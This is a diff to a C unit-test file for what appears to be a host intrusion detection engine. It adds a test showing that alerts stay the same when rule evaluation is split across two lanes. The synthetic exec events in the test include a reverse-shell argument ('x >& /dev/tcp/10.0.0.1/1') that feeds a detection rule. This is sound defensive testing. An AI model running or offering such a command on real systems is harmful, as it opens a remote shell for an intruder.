@@ -22,6 +22,7 @@
 #include "store.h"
 
 static char dir[64], path[128], rdir[128], ovr[128];
+static unsigned lanes; /* de_engine_opts.lanes for open_engine() */
 
 struct got {
 	int n;
@@ -168,6 +169,7 @@ static struct de_engine *open_engine(struct de_store *s, struct got *g, uint32_t
 		.hostname = "test-host",
 		.on_alert = on_alert,
 		.ud = g,
+		.lanes = lanes,
 	};
 	struct de_engine *e = NULL;
 	char why[512];
@@ -467,6 +469,106 @@ static void test_builtin_pack(void **state)
 	de_store_close(s);
 }
 
+/* The events of test_split_window: N execs by distinct processes, the
+ * children of 50 parents, comm k0..k6, every third a /dev/tcp line. */
+#define SPLIT_EVENTS 4100
+
+static void add_split_events(struct de_store *s)
+{
+	struct de_event ev;
+	for (int i = 0; i < SPLIT_EVENTS; i++) {
+		char comm[8], argv[64];
+		snprintf(comm, sizeof(comm), "k%d", i % 7);
+		int len = snprintf(argv, sizeof(argv), "%s%c-c%c%s", comm, 0, 0,
+				   i % 3 ? "true" : "x >& /dev/tcp/10.0.0.1/1");
+		memset(&ev, 0, sizeof(ev));
+		ev.type = DE_EV_EXEC;
+		ev.source = DE_EVSRC_EBPF;
+		ev.time_ns = now_ns();
+		ev.pid = ev.tid = 10000 + i;
+		ev.ppid = 1;
+		uint32_t id = (uint32_t)i + 1, pid = (uint32_t)(i % 50) + 100000;
+		memcpy(ev.entity_id, &id, sizeof(id));
+		memcpy(ev.parent_entity_id, &pid, sizeof(pid));
+		snprintf(ev.comm, sizeof(ev.comm), "%s", comm);
+		ev.argv = argv;
+		ev.argv_len = (size_t)len + 1;
+		ev.argc = 3;
+		ev.filename = "/usr/bin/x";
+		ev.have = DE_EVF_ARGV | DE_EVF_FILENAME | DE_EVF_PARENT | DE_EVF_CREDS;
+		assert_true(de_store_add(s, &ev) > 0);
+	}
+	assert_int_equal(de_store_commit(s), 0);
+}
+
+/* Every (rule, entity, dedup key) alerted, in order, as one string. */
+static char *alert_set(struct de_store *s)
+{
+	sqlite3_stmt *st = NULL;
+	assert_int_equal(sqlite3_prepare_v2(de_store_db(s),
+		"SELECT group_concat(x, ';') FROM (SELECT rule_id || ',' || coalesce(entity_id, '')"
+		" || ',' || coalesce(dedup_key, '') AS x FROM alerts ORDER BY x)", -1, &st, NULL),
+		SQLITE_OK);
+	assert_int_equal(sqlite3_step(st), SQLITE_ROW);
+	char *r = strdup((const char *)sqlite3_column_text(st, 0));
+	sqlite3_finalize(st);
+	return r;
+}
+
+/* A big window split across two lanes alerts exactly as one lane does:
+ * the same matches, dedup across the lanes' chunks, more matches than the
+ * helper's queue holds, and a runaway rule disabled once with one alert. */
+static void test_split_window(void **state)
+{
+	(void)state;
+	static const char more[] =
+		"rules:\n"
+		"  - id: T-ALL\n    name: every exec\n    severity: info\n"
+		"    sql: SELECT entity_id, id FROM new_process_events WHERE type = 'exec'\n"
+		"  - id: T-LOOP\n    name: loop\n    severity: low\n"
+		"    sql: WITH RECURSIVE r(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM r)"
+		" SELECT '00' AS entity_id FROM r WHERE x < 0\n";
+	char *sets[2];
+	for (int run = 0; run < 2; run++) {
+		char p[256];
+		assert_int_equal(clean(NULL), 0);
+		snprintf(p, sizeof(p), "%s/a.yaml", rdir);
+		write_file(p, rule_tcp);
+		snprintf(p, sizeof(p), "%s/b.yaml", rdir);
+		write_file(p, more);
+		lanes = run ? 2 : 1;
+		struct de_store *s = open_store();
+		add_split_events(s);
+		struct got g = { 0 };
+		struct de_engine *e = open_engine(s, &g, 1000);
+		int n = de_engine_on_commit(e, de_store_last_event_id(s));
+		/* every exec, every third, 50 parents x 7 names, one disabled */
+		int want = SPLIT_EVENTS + (SPLIT_EVENTS + 2) / 3 + 350 + 1;
+		assert_int_equal(n, want);
+		assert_int_equal(count_rows(s, "SELECT count(*) FROM alerts"), want);
+		assert_int_equal(count_rows(s, "SELECT count(*) FROM alerts WHERE rule_id = '"
+					      DE_ENGINE_RULE_DISABLED "'"), 1);
+		for (size_t i = 0; i < de_engine_rule_count(e); i++) {
+			struct de_engine_rule_info info;
+			de_engine_rule_info(e, i, &info);
+			bool loop = strcmp(info.rule->id, "T-LOOP") == 0;
+			assert_int_equal(info.enabled, !loop);
+			/* two lanes: the window went in chunks, each rule ran per chunk */
+			if (run && !loop)
+				assert_int_equal(info.runs, SPLIT_EVENTS / 1024);
+			if (!run)
+				assert_int_equal(info.runs, 1);
+		}
+		sets[run] = alert_set(s);
+		de_engine_close(e);
+		de_store_close(s);
+	}
+	assert_string_equal(sets[0], sets[1]);
+	free(sets[0]);
+	free(sets[1]);
+	lanes = 0;
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -476,6 +578,7 @@ int main(void)
 		cmocka_unit_test_setup(test_bad_rules_refused, clean),
 		cmocka_unit_test_setup(test_reload_atomic_and_overrides, clean),
 		cmocka_unit_test_setup(test_builtin_pack, clean),
+		cmocka_unit_test_setup(test_split_window, clean),
 	};
 	return cmocka_run_group_tests(tests, setup, teardown);
 }
